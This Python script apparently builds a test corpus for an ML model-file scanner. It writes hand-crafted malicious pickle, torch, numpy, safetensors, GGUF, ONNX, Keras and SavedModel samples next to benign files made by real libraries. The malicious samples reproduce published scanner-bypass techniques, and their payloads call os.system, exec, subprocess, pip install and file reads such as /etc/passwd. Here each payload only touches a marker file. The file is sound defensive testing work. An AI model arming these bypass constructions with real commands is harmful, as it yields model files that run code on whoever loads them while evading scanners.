"""Writes the scanner corpus into a folder: malicious samples (harmless payloads) and benign real files.

    python tests/security/corpus.py OUT_DIR

Every malicious payload only creates a marker file (`touch <dir>/PWNED-<name>`) if someone loaded it;
nothing here ever loads a sample, and the tests only hand them to the scanner. Each sample names the
technique it uses; many come from public bypass reports of picklescan, modelscan and fickling (ids in
the notes). Benign files are made by the real libraries (torch, numpy, safetensors, gguf-py, onnx,
h5py), so the scanner's allowlist is tested against what those libraries really write.
"""

from __future__ import annotations

import io
import json
import pickle
import struct
import sys
import tarfile
import zipfile
from dataclasses import dataclass
from pathlib import Path


@dataclass
class Sample:
    name: str
    path: Path
    technique: str
    malicious: bool


# ---- pickle building blocks (raw opcodes, so that no object with a payload ever exists here) ----

def _str0(s: str) -> bytes:             # protocol-0 STRING argument
    return b"S'" + s.encode() + b"'\n"


def _uni(s: str) -> bytes:              # SHORT_BINUNICODE
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


def _bytes(b: bytes) -> bytes:          # BINBYTES
    return b"B" + struct.pack("<I", len(b)) + b


def call0(module: str, name: str, *args: str) -> bytes:
    """Protocol 0: module.name(*args) via GLOBAL + TUPLE + REDUCE."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n(" + b"".join(_str0(a) for a in args) + b"tR"


def call4(module: str, name: str, *args: str) -> bytes:
    """Protocol 4 body: STACK_GLOBAL + REDUCE."""
    return _uni(module) + _uni(name) + b"\x93(" + b"".join(_uni(a) for a in args) + b"tR"


def p4(body: bytes) -> bytes:
    return b"\x80\x04" + body + b"."


def p2(body: bytes) -> bytes:
    return b"\x80\x02" + body + b"."


# ---- zip plumbing -------------------------------------------------------------------------------

def _torch_zip(tmp: Path, name: str) -> bytes:
    import torch
    (tmp / ".base").mkdir(exist_ok=True)
    p = tmp / ".base" / "archive.pt"
    torch.save({"w": torch.ones(2, 2)}, p)
    data = p.read_bytes()
    p.unlink()
    (tmp / ".base").rmdir()
    return data


def _replace_member(zip_bytes: bytes, suffix: str, new: bytes, *, compress: bool = False,
                    extra: tuple[str, bytes] | None = None) -> bytes:
    """Rewrite a zip with the member ending in `suffix` replaced (and optionally one member added)."""
    src = zipfile.ZipFile(io.BytesIO(zip_bytes))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            data = new if info.filename.endswith(suffix) else src.read(info)
            dst.writestr(info.filename, data, zipfile.ZIP_DEFLATED if compress and info.filename.endswith(suffix)
                         else zipfile.ZIP_STORED)
        if extra:
            dst.writestr(extra[0], extra[1])
    return out.getvalue()


def _patch_central(zip_bytes: bytes, member_suffix: str, patch) -> bytes:
    """Apply patch(buf, local_offset, central_offset) to the entry of one member."""
    zf = zipfile.ZipFile(io.BytesIO(zip_bytes))
    buf = bytearray(zip_bytes)
    info = next(i for i in zf.infolist() if i.filename.endswith(member_suffix))
    cd = buf.find(b"PK\x01\x02" + bytes(buf[zf.start_dir + 4:zf.start_dir + 4]), zf.start_dir)
    pos = zf.start_dir
    while True:
        assert buf[pos:pos + 4] == b"PK\x01\x02"
        nlen, elen, clen = struct.unpack("<HHH", buf[pos + 28:pos + 34])
        if bytes(buf[pos + 46:pos + 46 + nlen]).decode() == info.filename:
            cd = pos
            break
        pos += 46 + nlen + elen + clen
    patch(buf, info.header_offset, cd)
    return bytes(buf)


def _legacy(first: bytes | None = None, third: bytes | None = None, fifth: bytes | None = None) -> bytes:
    """A legacy torch stream: magic, protocol, sys info, object, storage keys (+ raw storages)."""
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
    proto = pickle.dumps(1001, protocol=2)
    info = pickle.dumps({"protocol_version": 1001, "little_endian": True,
                         "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2)
    obj = pickle.dumps({"epoch": 1}, protocol=2)
    keys = pickle.dumps([], protocol=2)
    return (first or magic) + proto + (third or info) + obj + (fifth or keys)


def _protobuf(fields: list[tuple[int, object]]) -> bytes:
    """A minimal protobuf encoder (length-delimited and varint fields) for hand-made SavedModels."""
    out = b""
    for num, value in fields:
        if isinstance(value, int):
            out += _varint(num << 3) + _varint(value)
        else:
            raw = value.encode() if isinstance(value, str) else value
            out += _varint(num << 3 | 2) + _varint(len(raw)) + raw
    return out


def _varint(n: int) -> bytes:
    out = b""
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out += bytes([b | 0x80])
        else:
            return out + bytes([b])


def _saved_model(ops: list[str]) -> bytes:
    nodes = [(1, _protobuf([(1, f"n{i}"), (2, op)])) for i, op in enumerate(ops)]
    graph = _protobuf(nodes)
    meta = _protobuf([(2, graph)])
    return _protobuf([(1, 1), (2, meta)])


def _keras_config(lambda_layer: bool) -> dict:
    layers = [{"class_name": "InputLayer", "config": {"name": "in", "batch_input_shape": [None, 4]}},
              {"class_name": "Dense", "config": {"name": "d", "units": 2, "activation": "relu"}}]
    if lambda_layer:
        layers.append({"class_name": "Lambda", "config": {
            "name": "lam", "function": ["4wEAAAAAAAAAAAAAAAEAAAACAAAAQwAAAHMIAAAAdABkAYMBUwApAk7aAmlkKQHaBGV4ZWMpAdoBeKkAcgQAAAD6AHIFAAAAAQAAAHMAAAAA", None, None],  # noqa: E501 - a real Keras Lambda payload
            "function_type": "lambda", "module": "__main__"}})
    return {"class_name": "Sequential", "config": {"name": "seq", "layers": layers}, "keras_version": "2.15.0",
            "backend": "tensorflow"}


def _keras3_config(custom: bool) -> dict:
    layer = {"module": "keras.layers", "class_name": "Dense", "config": {"name": "d", "units": 2},
             "registered_name": None}
    if custom:
        layer = {"module": "evil_pkg.layers", "class_name": "Backdoor", "config": {"name": "b"},
                 "registered_name": "evil>Backdoor"}
    return {"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": [layer]},
            "registered_name": None}


def _h5_keras(path: Path, config: dict) -> None:
    import h5py
    import numpy as np
    with h5py.File(path, "w") as f:
        f.attrs["model_config"] = json.dumps(config)
        f.attrs["keras_version"] = "2.15.0"
        f.attrs["backend"] = "tensorflow"
        g = f.create_group("model_weights")
        g.attrs["layer_names"] = np.array([b"d"])
        d = g.create_group("d")
        d.attrs["weight_names"] = np.array([b"d/kernel:0", b"d/bias:0"])
        d.create_dataset("d/kernel:0", data=np.ones((4, 2), np.float32))
        d.create_dataset("d/bias:0", data=np.zeros((2,), np.float32))


def _onnx(folder: Path, location: str, *, make_file: bool = True, length: int | None = None) -> Path:
    import numpy as np
    import onnx
    from onnx import TensorProto, helper, numpy_helper
    folder.mkdir(parents=True, exist_ok=True)
    w = numpy_helper.from_array(np.arange(16, dtype=np.float32).reshape(4, 4), "W")
    w.ClearField("raw_data")
    w.data_location = TensorProto.EXTERNAL
    for k, v in (("location", location), ("offset", "0"), ("length", str(length if length is not None else 64))):
        e = w.external_data.add()
        e.key, e.value = k, v
    graph = helper.make_graph([helper.make_node("MatMul", ["x", "W"], ["y"])], "g",
                              [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 4])],
                              [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 4])], [w])
    model = helper.make_model(graph)
    path = folder / "model.onnx"
    onnx.save_model(model, str(path))
    if make_file and not location.startswith("/") and ".." not in location:
        (folder / location).write_bytes(np.arange(16, dtype=np.float32).tobytes())
    return path


# ---- the corpus -----------------------------------------------------------------------------------

def malicious(out: Path) -> list[Sample]:
    out.mkdir(parents=True, exist_ok=True)
    m = str(out / "PWNED")
    cmd = f"touch {m}"
    items: list[Sample] = []

    def add(name: str, data: bytes | None, technique: str) -> Path:
        p = out / name
        if data is not None:
            p.write_bytes(data)
        items.append(Sample(name, p, technique, True))
        return p

    nested_inner = p2(call0("os", "system", cmd))

    add("reduce_os_system.pkl", p2(call0("os", "system", cmd)), "GLOBAL os.system + REDUCE (the classic)")
    add("posix_system_p4.pkl", p4(call4("posix", "system", cmd)), "STACK_GLOBAL posix.system, protocol 4")
    add("builtin_eval_p0.pkl", call0("__builtin__", "eval", f"__import__('os').system('{cmd}')") + b".",
        "protocol 0 with the Python 2 name __builtin__.eval")
    add("builtins_exec.pkl", p2(call0("builtins", "exec", f"import os; os.system('{cmd}')")), "builtins.exec")
    # STACK_GLOBAL whose strings come from the memo, stored long before (modelscan #85 family)
    body = _uni("os") + b"\x94" + _uni("system") + b"\x94" + b"0" + b"0" + b"h\x00h\x01\x93(" + _uni(cmd) + b"tR"
    add("stack_global_memo.pkl", p4(body), "STACK_GLOBAL with module/name fetched from the memo (BINGET)")
    body = b"(" + _uni("padding") + _uni("os") + b"\x94" + _uni("system") + b"\x94l0" + b"h\x00h\x01\x93(" + _uni(cmd) + b"tR"
    add("stack_global_memo_list.pkl", p4(body), "STACK_GLOBAL names memoized inside a discarded list")
    add("inst_opcode.pkl", b"(" + _str0(cmd) + b"ios\nsystem\n.", "INST opcode (import and call in one)")
    add("obj_opcode.pkl", b"(cos\nsystem\n" + _str0(cmd) + b"o.", "OBJ opcode (fickling-era bypass)")
    add("newobj_popen.pkl", p2(b"csubprocess\nPopen\n(" + _uni("touch") + _uni(m) + b"l\x85\x81"),
        "NEWOBJ subprocess.Popen")
    add("newobj_ex_popen.pkl", p4(_uni("subprocess") + _uni("Popen") + b"\x93" + _uni("sh") + b"\x85}\x92"),
        "NEWOBJ_EX subprocess.Popen")
    add("ext_code.pkl", p2(b"\x82\x07(" + _uni(cmd) + b"tR"), "EXT1 code resolved through copyreg's registry")
    add("getattr_import.pkl", p2(b"cbuiltins\ngetattr\n(cbuiltins\n__import__\n(" + _str0("os") + b"tR" + _str0("system")
                                 + b"tR(" + _str0(cmd) + b"tR"), "builtins.getattr(__import__('os'), 'system')")
    add("runpy_run_code.pkl", p2(call0("runpy", "_run_code", f"import os;os.system('{cmd}')", "")), "runpy._run_code")
    add("importlib_import.pkl", p2(call0("importlib", "import_module", "os")), "importlib.import_module")
    add("pip_main.pkl", p2(call0("pip", "main", "install", "evil-package")), "pip.main (picklescan CVE-2025-1716)")
    add("pydoc_pipepager.pkl", p2(call0("pydoc", "pipepager", "x", cmd)), "pydoc.pipepager")
    add("timeit_timeit.pkl", p2(call0("timeit", "timeit", f"__import__('os').system('{cmd}')")),
        "timeit.timeit (picklescan GHSA-v7x6-rv5q-mhwc)")
    add("code_interp.pkl", p2(b"ccode\nInteractiveInterpreter\n)R0" + call0("code", "compile_command", "1")),
        "code.InteractiveInterpreter / compile_command")
    add("operator_attrgetter.pkl", p2(b"c_operator\nattrgetter\n(" + _str0("system") + b"tR("
                                      + call0("importlib", "import_module", "os") + b"tR(" + _str0(cmd) + b"tR"),
        "_operator.attrgetter over an imported module (picklescan GHSA-955r-x9j8-7rhh)")
    add("functools_partial.pkl", p2(b"cfunctools\npartial\n(cos\nsystem\n" + _str0(cmd) + b"tR)R"),
        "functools.partial wrapping os.system")
    add("nested_load_from_bytes.pkl", p2(b"ctorch.storage\n_load_from_bytes\n(" + _bytes(nested_inner) + b"tR"),
        "torch.storage._load_from_bytes with a nested pickle")
    add("nested_pickle_loads.pkl", p2(b"c_pickle\nloads\n(" + _bytes(nested_inner) + b"tR"),
        "_pickle.loads with a nested pickle (modelscan #267)")
    add("ensurepip_run_pip.pkl", p2(call0("ensurepip", "_run_pip", "install", "evil")), "ensurepip._run_pip (GHSA-xp4f-hrf8-rxw7)")
    add("pkgutil_resolve_name.pkl", p2(b"cpkgutil\nresolve_name\n(" + _str0("os:system") + b"tR(" + _str0(cmd) + b"tR"),
        "pkgutil.resolve_name then call (GHSA-vvpj-8cmc-gx39)")
    add("asyncio_subprocess.pkl", p2(call0("asyncio.unix_events", "_UnixSubprocessTransport", "x")),
        "asyncio.unix_events._UnixSubprocessTransport (CVE-2025-10157)")
    add("uuid_command.pkl", p2(call0("uuid", "_get_command_stdout", "sh", "-c", cmd)), "uuid._get_command_stdout")
    add("osx_support.pkl", p2(call0("_osx_support", "_read_output", cmd)), "_osx_support._read_output")
    add("ctypes_cdll.pkl", p2(call0("ctypes", "CDLL", "libc.so.6")), "ctypes.CDLL")
    add("webbrowser_open.pkl", p2(call0("webbrowser", "open", "http://example.invalid")), "webbrowser.open")
    add("shutil_rmtree.pkl", p2(call0("shutil", "rmtree", str(out / "nothing"))), "shutil.rmtree")
    add("socket_connect.pkl", p2(b"csocket\ncreate_connection\n((" + _str0("example.invalid") + b"K\x50ttR"),
        "socket.create_connection")
    add("marshal_function.pkl", p2(b"ctypes\nFunctionType\n(cmarshal\nloads\n(" + _bytes(b"\xe3") + b"tR}tR)R"),
        "marshal.loads + types.FunctionType")
    add("torch_inductor.pkl", p2(call0("torch._inductor.codecache", "compile_file", "x", "y", cmd)),
        "torch._inductor.codecache.compile_file")
    add("torch_fx_exec.pkl", p2(call0("torch.fx.graph_module", "_exec_with_source", f"import os;os.system('{cmd}')")),
        "torch.fx.graph_module._exec_with_source")
    add("cprofile_run.pkl", p2(call0("cProfile", "run", f"__import__('os').system('{cmd}')")), "cProfile.run")
    add("pty_spawn_p0.pkl", b"(cpty\nspawn\n" + _str0("true") + b"o.", "pty.spawn via OBJ (fickling #108)")
    # numpy.prod used as a scratch object: BUILD sets attributes on it, then a dotted GLOBAL reads them (modelscan #85)
    body = (b"cnumpy\nprod\nN(" + _uni("a") + _uni("os") + b"d\x86b0" + b"cnumpy\nprod.a\n" + b"0"
            + call0("os", "system", cmd))
    add("build_on_global.pkl", p4(body), "BUILD on an imported function to plant attributes (modelscan #85)")
    add("numpy_builtins.pkl", p4(b"cbuiltins\ndict.get\ncnumpy\n__builtins__\n" + _uni("eval") + b"\x86R(" +
                                 _uni(f"__import__('os').system('{cmd}')") + b"tR"),
        "numpy.__builtins__ + dict.get reaching eval (modelscan #89)")
    add("dotted_walk.pkl", p4(b"cnumpy\ncore._internal.sys.modules\n0" + b"cnumpy\nprod\n0" + _uni("x") + b"0"
                              + b"cnumpy\ntesting._private.utils.os.system\n(" + _uni(cmd) + b"tR"),
        "dotted attribute walk from an allowed module to os.system")
    add("computed_stack_global.pkl", p4(b"cbuiltins\nstr\n(" + _uni("os") + b"tR" + _uni("system") + b"\x93(" + _uni(cmd) + b"tR"),
        "STACK_GLOBAL whose module name is produced by a call")
    add("call_on_result.pkl", p4(b"ccollections\nOrderedDict\n)R)R"),
        "REDUCE on an object produced while loading (allowlisted imports only)")
    add("second_pickle.pkl", pickle.dumps({"ok": 1}, protocol=2) + p2(call0("os", "system", cmd)),
        "a benign pickle followed by a malicious one in the same stream")
    add("truncated_after_reduce.pkl", b"\x80\x02" + call0("os", "system", cmd) + b"\x8c\xff",
        "truncated stream: REDUCE runs before the loader fails")
    add("weights.bin", p2(call0("os", "system", cmd)), "raw pickle with a weights extension (CVE-2025-1889)")
    add("model.safetensors.pkl.data", p4(call4("os", "system", cmd)), "raw pickle under an unrelated extension")

    # numpy object arrays
    npy_header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    npy_header += b" " * (63 - (10 + len(npy_header)) % 64) + b"\n"
    npy = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(npy_header)) + npy_header + p2(call0("os", "system", cmd))
    add("object_array.npy", npy, "numpy object array (np.load(allow_pickle=True))")
    zb = io.BytesIO()
    with zipfile.ZipFile(zb, "w") as z:
        z.writestr("weights.npy", npy)
    add("object_array.npz", zb.getvalue(), "npz with an object-array member")

    # torch zip files
    base = _torch_zip(out, "base")
    evil = p2(call0("os", "system", cmd))
    add("torch_data_pkl.pt", _replace_member(base, "data.pkl", evil), "torch zip with a malicious data.pkl")
    add("torch_extra_member.pt", _replace_member(base, "no-such-member", b"", extra=("archive/extra/payload.bin", evil)),
        "torch zip with an extra pickle member under a non-pickle name")
    add("torch_deflated.pt", _replace_member(base, "data.pkl", evil, compress=True), "deflate-compressed data.pkl")

    def bad_crc(buf, lh, cd):
        buf[cd + 16:cd + 20] = b"\x00\x00\x00\x00"
        buf[lh + 14:lh + 18] = b"\x00\x00\x00\x00"
    add("torch_bad_crc.pt", _patch_central(_replace_member(base, "data.pkl", evil), "data.pkl", bad_crc),
        "data.pkl with a bad CRC: zipfile raises, torch loads (GHSA-7q5r-7gvp-wc82)")

    def enc_flag(buf, lh, cd):
        buf[lh + 6] |= 1
        buf[cd + 8] |= 1
    add("torch_encrypted_flag.pt", _patch_central(_replace_member(base, "data.pkl", evil), "data.pkl", enc_flag),
        "encrypted flag bit on data.pkl (GHSA-w8jq-xcqf-f792)")

    def rename_local(buf, lh, cd):
        nlen = struct.unpack("<H", buf[lh + 26:lh + 28])[0]
        name = bytes(buf[lh + 30:lh + 30 + nlen])
        buf[lh + 30:lh + 30 + nlen] = name[:-3] + b"txt"
    add("torch_name_mismatch.pt", _patch_central(_replace_member(base, "data.pkl", evil), "data.pkl", rename_local),
        "local header names data.pkl differently from the central directory (CVE-2025-1944)")
    dup = io.BytesIO()
    with zipfile.ZipFile(dup, "w") as z:
        import warnings
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            for info in zipfile.ZipFile(io.BytesIO(base)).infolist():
                z.writestr(info.filename, zipfile.ZipFile(io.BytesIO(base)).read(info))
            z.writestr("archive/data.pkl", evil)
    add("torch_duplicate_member.pt", dup.getvalue(), "a second data.pkl with the same name")
    inner = _replace_member(base, "data.pkl", evil)
    nz = io.BytesIO()
    with zipfile.ZipFile(nz, "w") as z:
        z.writestr("inner/model.pt", inner)
    add("nested_zip.zip", nz.getvalue(), "malicious torch zip nested inside another zip")
    add("model.7z", b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(64), "7z archive nobody can scan")
    tb = io.BytesIO()
    with tarfile.open(fileobj=tb, mode="w") as t:
        ti = tarfile.TarInfo("model/weights.pkl")
        ti.size = len(evil)
        t.addfile(ti, io.BytesIO(evil))
    add("model.tar", tb.getvalue(), "pickle inside a tar archive")
    import gzip
    add("model.pkl.gz", gzip.compress(evil), "gzip-compressed pickle (joblib style)")
    add("legacy_first_pickle.pt", _legacy(first=p2(call0("os", "system", cmd))),
        "legacy torch stream with the payload in the magic-number pickle")
    add("legacy_sysinfo.pt", _legacy(third=p2(call0("os", "system", cmd))),
        "legacy torch stream with the payload in the third (sys info) pickle")
    add("legacy_keys.pt", _legacy(fifth=p2(call0("os", "system", cmd))),
        "legacy torch stream with the payload in the storage-keys pickle")

    # header formats
    add("length_past_end.safetensors", struct.pack("<Q", 1 << 40) + b'{"a":1}', "safetensors header length past the file")
    hdr = json.dumps({"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
                      "b": {"dtype": "F32", "shape": [2], "data_offsets": [4, 12]}}).encode()
    add("overlap.safetensors", struct.pack("<Q", len(hdr)) + hdr + bytes(12), "safetensors tensors overlap")
    hdr = json.dumps({"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}).encode()
    add("trailing.safetensors", struct.pack("<Q", len(hdr)) + hdr + bytes(8) + p2(call0("os", "system", cmd)),
        "safetensors with hidden trailing bytes")
    hdr = json.dumps({"a": {"dtype": "F32", "shape": [2**62, 4], "data_offsets": [0, 8]}}).encode()
    add("overflow.safetensors", struct.pack("<Q", len(hdr)) + hdr + bytes(8), "safetensors shape overflow")
    g = b"GGUF" + struct.pack("<IQQ", 3, 1 << 40, 0)
    add("huge_count.gguf", g + bytes(16), "GGUF tensor count far past the file")
    kv = struct.pack("<Q", 17) + b"general.alignment" + struct.pack("<I", 4) + struct.pack("<I", 0)
    add("zero_alignment.gguf", b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + kv + bytes(32), "GGUF zero alignment")
    kv = struct.pack("<Q", 1 << 50) + b"x"
    add("key_length.gguf", b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + kv, "GGUF key length past the file")
    _onnx(out / "onnx_abs", "/etc/passwd")
    items.append(Sample("onnx_abs/model.onnx", out / "onnx_abs" / "model.onnx", "ONNX external data at an absolute path", True))
    _onnx(out / "onnx_dotdot", "../../secret.bin")
    items.append(Sample("onnx_dotdot/model.onnx", out / "onnx_dotdot" / "model.onnx", "ONNX external data with '..'", True))
    o = _onnx(out / "onnx_range", "w.bin", length=1 << 30)
    items.append(Sample("onnx_range/model.onnx", o, "ONNX external data range past the file", True))
    _h5_keras(out / "lambda.h5", _keras_config(lambda_layer=True))
    items.append(Sample("lambda.h5", out / "lambda.h5", "Keras .h5 with a Lambda layer", True))
    kz = io.BytesIO()
    with zipfile.ZipFile(kz, "w") as z:
        z.writestr("config.json", json.dumps(_keras3_config(custom=True)))
        z.writestr("metadata.json", json.dumps({"keras_version": "3.4.0"}))
    add("custom_layer.keras", kz.getvalue(), "Keras 3 archive whose config names a module outside Keras")
    sm = out / "savedmodel"
    sm.mkdir(exist_ok=True)
    (sm / "saved_model.pb").write_bytes(_saved_model(["Placeholder", "ReadFile", "EagerPyFunc", "Identity"]))
    items.append(Sample("savedmodel/saved_model.pb", sm / "saved_model.pb", "TF SavedModel with ReadFile/EagerPyFunc ops", True))
    return items


def benign(out: Path) -> list[Sample]:
    import numpy as np
    import torch
    from safetensors.numpy import save_file as np_save_file
    from safetensors.torch import save_file

    out.mkdir(parents=True, exist_ok=True)
    items: list[Sample] = []

    def add(name: str, technique: str) -> Path:
        p = out / name
        items.append(Sample(name, p, technique, False))
        return p

    torch.manual_seed(0)
    dtypes = [torch.float32, torch.float16, torch.bfloat16, torch.float64, torch.int8, torch.uint8, torch.int16,
              torch.int32, torch.int64, torch.bool, torch.complex64, torch.float8_e4m3fn, torch.float8_e5m2]
    every = {f"t.{str(d).split('.')[-1]}": torch.randn(3, 5).to(d) for d in dtypes}
    torch.save(every, add("every_dtype.pt", "torch.save state dict with every dtype"))
    torch.save(every, add("every_dtype_legacy.pt", "legacy (pre-1.6) torch format"), _use_new_zipfile_serialization=False)
    torch.save(every, add("every_dtype_p4.pt", "torch.save with pickle protocol 4"), pickle_protocol=4)
    for d in (torch.float16, torch.bfloat16, torch.float32):
        torch.save({"w": torch.randn(8, 8).to(d)}, add(f"state_{str(d).split('.')[-1]}.bin", f"pytorch_model.bin in {d}"))
    model = torch.nn.Sequential(torch.nn.Linear(4, 8), torch.nn.LayerNorm(8), torch.nn.Linear(8, 2))
    torch.save(model.state_dict(), add("module_state_dict.pt", "nn.Module.state_dict() (OrderedDict with _metadata)"))
    opt = torch.optim.AdamW(model.parameters(), lr=1e-3)
    model(torch.randn(2, 4)).sum().backward()
    opt.step()
    sched = torch.optim.lr_scheduler.StepLR(opt, 1)
    torch.save({"epoch": 3, "model_state_dict": model.state_dict(), "optimizer_state_dict": opt.state_dict(),
                "loss": 0.25, "scheduler": sched.state_dict()}, add("train_checkpoint.pt", "training checkpoint with optimizer"))
    import argparse
    torch.save({"epoch": 7, "global_step": 700, "pytorch-lightning_version": "2.4.0", "state_dict": model.state_dict(),
                "optimizer_states": [opt.state_dict()], "lr_schedulers": [sched.state_dict()],
                "hyper_parameters": {"lr": 1e-3, "args": argparse.Namespace(lr=1e-3, layers=2)},
                "callbacks": {"ModelCheckpoint{'monitor': 'val_loss'}": {"best_model_score": torch.tensor(0.1)}},
                "loops": {"fit_loop": {"state_dict": {}, "epoch_progress": {"total": {"ready": 7}}}},
                "rng": np.random.get_state()}, add("lightning_style.ckpt", "Lightning-style checkpoint dict"))
    base = torch.randn(6, 6)
    torch.save({"a": base, "view": base[1:3], "t": base.t(), "p": torch.nn.Parameter(torch.randn(2)),
                "size": torch.Size([2, 3]), "empty": torch.empty(0, 4)},
               add("views_params.pt", "shared storages, strided views, Parameter, torch.Size, empty tensor"))
    np.save(add("array_f32.npy", "np.save float32"), np.random.rand(4, 4).astype(np.float32))
    np.save(add("array_i64.npy", "np.save int64"), np.arange(12).reshape(3, 4))
    np.savez(add("arrays.npz", "np.savez (stored)"), a=np.ones(3), b=np.arange(4, dtype=np.int16))
    np.savez_compressed(add("arrays_compressed.npz", "np.savez_compressed (deflated)"), a=np.ones((16, 16)))
    save_file({k: v for k, v in every.items() if v.dtype not in (torch.complex64,)},
              str(add("every_dtype.safetensors", "safetensors.torch.save_file")), metadata={"format": "pt"})
    np_save_file({"x": np.ones((2, 2), np.float32)}, str(add("numpy.safetensors", "safetensors.numpy.save_file")))
    import gguf
    gp = add("tiny.gguf", "GGUFWriter with metadata and tensors")
    w = gguf.GGUFWriter(str(gp), "llama")
    w.add_block_count(1)
    w.add_context_length(16)
    w.add_tensor("tok_embd.weight", np.random.rand(8, 4).astype(np.float32))
    w.add_tensor("out.weight", np.random.rand(4, 8).astype(np.float16))
    w.write_header_to_file()
    w.write_kv_data_to_file()
    w.write_tensors_to_file()
    w.close()
    import onnx
    from onnx import TensorProto, helper, numpy_helper
    (out / "onnx_ext").mkdir(exist_ok=True)
    wt = numpy_helper.from_array(np.random.rand(64, 64).astype(np.float32), "W")
    graph = helper.make_graph([helper.make_node("MatMul", ["x", "W"], ["y"])], "g",
                              [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 64])],
                              [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 64])], [wt])
    onnx.save_model(helper.make_model(graph), str(out / "onnx_ext" / "model.onnx"), save_as_external_data=True,
                    all_tensors_to_one_file=True, location="model.onnx.data", size_threshold=0)
    items.append(Sample("onnx_ext/model.onnx", out / "onnx_ext" / "model.onnx", "ONNX with external data", False))
    items.append(Sample("onnx_ext/model.onnx.data", out / "onnx_ext" / "model.onnx.data", "ONNX external data file", False))
    _h5_keras(add("keras2_model.h5", "Keras 2 .h5 layout written by h5py"), _keras_config(lambda_layer=False))
    kz = add("keras3_model.keras", "Keras 3 .keras archive (config.json + weights.h5)")
    with zipfile.ZipFile(kz, "w") as z:
        z.writestr("config.json", json.dumps(_keras3_config(custom=False)))
        z.writestr("metadata.json", json.dumps({"keras_version": "3.4.0"}))
    hf = out / "hf_folder"
    hf.mkdir(exist_ok=True)
    save_file({"model.embed.weight": torch.randn(16, 8)}, str(hf / "model.safetensors"))
    (hf / "config.json").write_text(json.dumps({"architectures": ["LlamaForCausalLM"], "hidden_size": 8}))
    (hf / "tokenizer.json").write_text(json.dumps({"version": "1.0", "model": {"type": "BPE", "vocab": {"a": 0}}}))
    for f in ("model.safetensors", "config.json", "tokenizer.json"):
        items.append(Sample(f"hf_folder/{f}", hf / f, f"Hugging Face folder: {f}", False))
    sm = out / "savedmodel_ok"
    sm.mkdir(exist_ok=True)
    (sm / "saved_model.pb").write_bytes(_saved_model(["Placeholder", "MatMul", "VarHandleOp", "RestoreV2", "SaveV2",
                                                      "StringJoin", "ShardedFilename", "Identity"]))
    items.append(Sample("savedmodel_ok/saved_model.pb", sm / "saved_model.pb", "TF SavedModel graph with normal ops", False))
    return items


if __name__ == "__main__":
    root = Path(sys.argv[1] if len(sys.argv) > 1 else "scan-corpus")
    for s in malicious(root / "malicious") + benign(root / "benign"):
        print(f"{'MAL' if s.malicious else 'ok '}  {s.path}  {s.technique}")
